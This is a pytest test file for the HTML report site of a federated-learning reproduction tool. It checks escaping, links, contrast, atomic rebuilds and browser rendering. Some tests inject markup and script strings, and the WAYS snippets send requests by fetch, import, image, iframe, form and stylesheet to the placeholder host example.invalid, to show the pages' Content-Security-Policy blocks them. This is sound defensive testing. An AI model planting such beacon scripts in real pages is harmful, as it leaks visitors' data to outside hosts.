"""The site of a run: every item has a page, links lead somewhere, a browser shows it."""

from __future__ import annotations

import html
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from fedcore.errors import DataError
from fedcore.files import checksums
from fedcore.history import History
from fedcore.repro.plan.machine import describe_machine
from fedcore.repro.site import build, curves
from fedcore.repro.verdicts import verdict_pages
from refused import refused
from site_pages import Page, dead_links, in_a_browser, opened, visited

ROOT = Path(__file__).parents[2]
CLAIM = 'say "<b>x</b>" & more'


@pytest.fixture(scope="module")
def site(first_run):
    return first_run[0].root / "results/tiny/report"


def test_a_run_ends_with_its_site(first_run, site):
    root = first_run[0].root
    verdicts = verdict_pages.read(root / "results/tiny/verdicts/tiny.tsv")
    front = (site / "index.html").read_text(encoding="utf-8")
    assert "A small paper on &lt;b&gt;A&lt;/b&gt; &amp; B" in front and "What came out" in front
    assert not [path for path in site.rglob("*.html") if "<b>A</b>" in path.read_text("utf-8")]
    for verdict in verdicts:
        text = (site / f"tiny/{verdict.id}.html").read_text(encoding="utf-8")
        assert verdict.word in text and "<h1>" in text
    for figure in (root / "results/tiny/figures/tiny").glob("*.png"):
        assert (site / "tiny" / figure.name).read_bytes() == figure.read_bytes()
    runs = (site / "tiny/runs.html").read_text(encoding="utf-8")
    assert "tiny/first/wk2023/easy-default" in runs and "CelebA" in runs
    assert f"BLAS: {html.escape(describe_machine()['BLAS'])}" in runs
    assert not list(site.parent.glob(".report*"))


def test_no_link_is_dead_and_every_picture_has_words(site):
    assert dead_links(site) == []
    for path in site.rglob("*.html"):
        page = Page(path)
        assert all(image.get("alt") for image in page.images), path
        assert "main" in page.ids


def test_a_template_makes_the_site_again_and_nothing_else(done):
    assert done.planned() == {}
    done.append("fedcore/repro/site/assets/site.css", "/* edited */\n")
    assert set(done.planned().values()) == {"report"}
    front = "fedcore/repro/site/templates/index.html.j2"
    done.edit(front, "out{% endif %}</h1>", "in{% endif %}</h1>")
    assert done.snakemake().status == 0
    assert "<h1>What came in</h1>" in (done.root / "results/tiny/report/index.html").read_text()


def test_what_papers_and_people_write_is_shown_and_not_obeyed(done, tmp_path):
    results = done.root / "results/tiny"
    table = results / "verdicts/tiny.tsv"
    found = verdict_pages.read(table)
    changed = [verdict.__class__(**{**vars(verdict), "because": CLAIM}) for verdict in found]
    verdict_pages.write(changed, table)
    plan = results / "plans/tiny.json"
    plan.write_text(plan.read_text().replace('"surrogates": false', '"surrogates": true'))
    checksums.place(plan).unlink()
    made = build.write(results, tmp_path / "site", done.root).parent
    text = (made / f"tiny/{found[0].id}.html").read_text(encoding="utf-8")
    assert "<b>x</b>" not in text and "&lt;b&gt;x&lt;/b&gt;" in text
    assert "stand-ins for data sets" in (made / "index.html").read_text(encoding="utf-8")
    assert dead_links(made) == []
    shown = build.markdown("a | b\n--|--\n<script>x</script> | 2")
    assert "<table>" in shown and "<script>" not in shown


def test_a_damaged_table_leaves_the_old_site(done):
    site = done.root / "results/tiny/report"
    before = {path.name: path.read_bytes() for path in site.iterdir() if path.is_file()}
    table = done.root / "results/tiny/verdicts/tiny.tsv"
    table.write_text("nothing\n")
    refused(lambda: build.write(done.root / "results/tiny", site, done.root), DataError)
    assert {path.name: path.read_bytes() for path in site.iterdir() if path.is_file()} == before
    refused(lambda: build.write(site, site), DataError)


def twice(results):
    """Add a second paper, which is the first."""
    for kind, ending in (("verdicts", "tsv"), ("plans", "json")):
        shutil.copyfile(results / f"{kind}/tiny.{ending}", results / f"{kind}/twice.{ending}")


@pytest.mark.parametrize("end", [None, 40])
def test_a_paper_of_another_run_that_is_not_whole_is_left_out(done, tmp_path, capsys, end):
    results = done.root / "results/tiny"
    twice(results)
    plan = results / "plans/twice.json"
    plan.write_text(plan.read_text().replace('"repeats": 3', '"repeats": 4')[:end])
    with pytest.raises((DataError, ValueError)):
        build.write(results, tmp_path / "all", done.root)
    front = build.write(results, tmp_path / "site", done.root, ["tiny"])
    assert (front.parent / "tiny").is_dir() and not (front.parent / "twice").exists()
    assert "twice, which is not of this run," in capsys.readouterr().err


@pytest.mark.parametrize("where", ["assets/plotly.min.js", "twice/ends.png"])
def test_a_limit_on_the_size_of_files_leaves_the_old_site(done, where):
    results, size = done.root / "results/tiny", 8_000_000
    twice(results)
    shutil.copytree(results / "figures/tiny", results / "figures/twice")
    if where.startswith("twice"):
        checksums.place(results / "figures/twice/ends.png").unlink()
        with open(results / "figures/twice/ends.png", "ab") as figure:
            figure.write(bytes(2 * size))
    before = {path: path.read_bytes() for path in results.rglob("report/**/*") if path.is_file()}
    limit = (size if "twice" in where else 1_000_000) // 1024
    job = f"{sys.executable} -m fedcore job report results/tiny"
    run = subprocess.run(
        ["bash", "-c", f"ulimit -f {limit}; {job}"], cwd=done.root, env=done.environment,
        capture_output=True, text=True,
    )  # fmt: skip
    assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr
    assert where in run.stderr
    after = {path: path.read_bytes() for path in results.rglob("report/**/*") if path.is_file()}
    assert after == before and not list(results.glob(".report*"))


def test_curves_are_medians_with_all_repeats_between_the_bands(first_run):
    root = first_run[0].root
    groups = curves.groups(root / "results/tiny/plans/tiny.json")
    names = [(group["experiment"], group["label"]) for group in groups]
    assert len(names) == len(set(names)) > 1
    shown = {run["cell"]: run for group in groups for run in group["runs"]}
    histories = root / "results/tiny/histories/tiny"
    for cell, run in shown.items():
        history = History.load(histories / f"{cell}.h5")
        assert run["x"]["rounds"][0] == history["round"][0, 0]
        assert None not in run["x"]["seconds"]
        for measure, y in run["y"].items():
            expected = [float(f"{x:.5g}") for x in np.nanmedian(history[measure], axis=0)]
            assert y["median"] == expected, measure
            if history.repeats > 1:
                assert y["high"][-1] == float(f"{np.nanmax(history[measure][:, -1]):.5g}")
    assert any("low" in y for run in shown.values() for y in run["y"].values())


def test_the_head_of_every_page_begins_with_what_it_may_load(site):
    for path in site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert re.search(r"<head>\s*<meta http-equiv=.Content-Security-Policy", text), path
        assert not re.search(r"<script(?![^>]* src=)[^>]*>|<[^>]* on\w+=", text), path


OUT = """const out = "https://example.invalid/";
const add = (tag, words) => {
  const made = Object.assign(document.createElement(tag), words);
  document.body.append(made);
  return made;
};
"""
WAYS = {
    "fetch": "fetch(out, {mode: 'no-cors'}).catch(() => 0)",
    "script": "import(out).catch(() => 0)",
    "image": "new Image().src = out",
    "frame": "add('iframe', {src: out})",
    "form": "add('iframe', {name: 'f'}); add('form', {action: out, target: 'f'}).submit()",
    "sheet": "add('link', {rel: 'stylesheet', href: out})",
}


def leaky(site: Path, folder: Path, ways: dict[str, str], *, free: bool) -> list[str]:
    """Make a page of the site for each script, which it loads as its own; without its policy."""
    shutil.copytree(site, folder)
    page = (site / "tiny/curves.html").read_text(encoding="utf-8")
    if free:
        page = re.sub(r"<meta http-equiv=[^>]*>", "", page)
    for name, script in ways.items():
        (folder / f"tiny/leak-{name}.js").write_text(f"{{ {OUT}{script} }}", encoding="utf-8")
        leak = f'<script src="leak-{name}.js"></script></body>'
        text = page.replace("</body>", leak)
        (folder / f"tiny/{name}.html").write_text(text, encoding="utf-8")
    return [f"tiny/{name}.html" for name in ways]


def leaves(errors: list[str]) -> bool:
    return any(re.match(r"asks for \w+://example.invalid/", error) for error in errors)


@in_a_browser
def test_no_script_of_a_page_sends_anything(site, tmp_path):
    pages = leaky(site, tmp_path / "free", WAYS, free=True)
    found = visited(tmp_path / "free", pages, 1200)
    assert [page for page in pages if not leaves(found[page]["errors"])] == []  # it is noticed
    leaky(site, tmp_path / "held", WAYS, free=False)
    found = visited(tmp_path / "held", pages, 1200)
    assert [page for page in pages if leaves(found[page]["errors"])] == []
    assert [page for page in pages if not found[page]["errors"]] == []  # the console tells of it


@in_a_browser
def test_pages_that_are_opened_as_files_draw_and_ask_for_nothing(site):
    for page in ("curves", "replay", "index"):
        shown, errors = opened(site / f"tiny/{page}.html")
        assert errors == [], page
        assert ('class="trace scatter' in shown) == (page != "index")


def _luminance(colour: str) -> float:
    parts = np.array([int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)])
    linear = np.where(parts <= 0.04045, parts / 12.92, ((parts + 0.055) / 1.055) ** 2.4)
    return float(linear @ [0.2126, 0.7152, 0.0722])


def test_words_can_be_told_from_what_is_behind_them():
    """A contrast of 4.5 is what WCAG 2.1 asks for at level AA."""
    css = (build.ASSETS / "site.css").read_text(encoding="utf-8")
    found = re.findall(r"--([\w-]+): light-dark\((#\w{6}), (#\w{6})\)", css)
    pairs = [(word, f"{word}-bg") for word in ("holds", "fails", "open", "none")]
    pairs += [(word, on) for word in ("ink", "soft", "link") for on in ("paper", "panel")]
    for theme in (
        {name: light for name, light, _ in found},
        {name: dark for name, _, dark in found},
    ):
        for word, behind in pairs:
            dim, bright = sorted(_luminance(theme[name]) for name in (word, behind))
            assert (bright + 0.05) / (dim + 0.05) >= 4.5, (word, behind)


@in_a_browser
@pytest.mark.parametrize("width", [360, 1200])
def test_a_browser_shows_every_page(site, width):
    pages = sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))
    found = visited(site, pages, width)
    assert sorted(found) == pages
    for page, seen in found.items():
        assert seen["errors"] == [], page
        assert seen["wide"] <= width, f"{page} is {seen['wide']} pixels wide"
    drawn = dict(found["tiny/curves.html"]["drawn"])
    assert drawn.keys() == {"rounds", "up", "bytes", "steps", "seconds"}
    assert all(count >= 2 for count in drawn.values())  # two methods on the first problem
    says, link = found["tiny/curves.html"]["origin"]
    assert "snakemake" in says and "/histories/tiny/" in says
    assert link.removeprefix("runs.html#") in Page(site / "tiny/runs.html").ids
    ((name, everything, fewer, shown),) = found["tiny/curves.html"]["slid"]
    assert (name, shown) == ("momentum", "momentum = false") and 0 < fewer < everything
    replayed = found["tiny/replay.html"]["replayed"]
    assert found["tiny/replay.html"]["opened"] == 4  # the most that a run has here
    for cell, kept, recorded, apart in replayed:
        assert kept == recorded >= 1 and apart < 1e-4, (
            f"{cell}: its iterates do not give what it recorded"
        )


def test_the_formulas_of_all_notebooks_can_be_drawn():
    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
        source = path.read_text(encoding="utf-8")
        text = re.sub(r"<[^>]*>", "", re.sub(r"(?s)<pre.*?</pre>", "", build.notebook(path)))
        assert "$" not in text and "\\" not in text, path.name
        assert ("<math" in build.notebook(path)) == bool(build.FORMULA.search(source)), path.name


def test_a_claim_shows_the_cells_it_is_judged_by_and_one_without_says_so(first_run, site):
    table = first_run[0].root / "results/tiny/verdicts/tiny.tsv"
    for verdict in verdict_pages.read(table):
        page = Page(site / f"tiny/{verdict.id}.html")
        assert ("cells" in page.ids) == bool(verdict.measured), verdict.id
        assert html.escape(verdict.measured) in page.text, verdict.id


def test_an_executed_notebook_that_is_cut_off_is_refused(tmp_path):
    (tmp_path / "n.ipynb").write_bytes(b'{"cells": [')
    refused(lambda: build.notebook(tmp_path / "n.ipynb"), DataError, "n.ipynb")
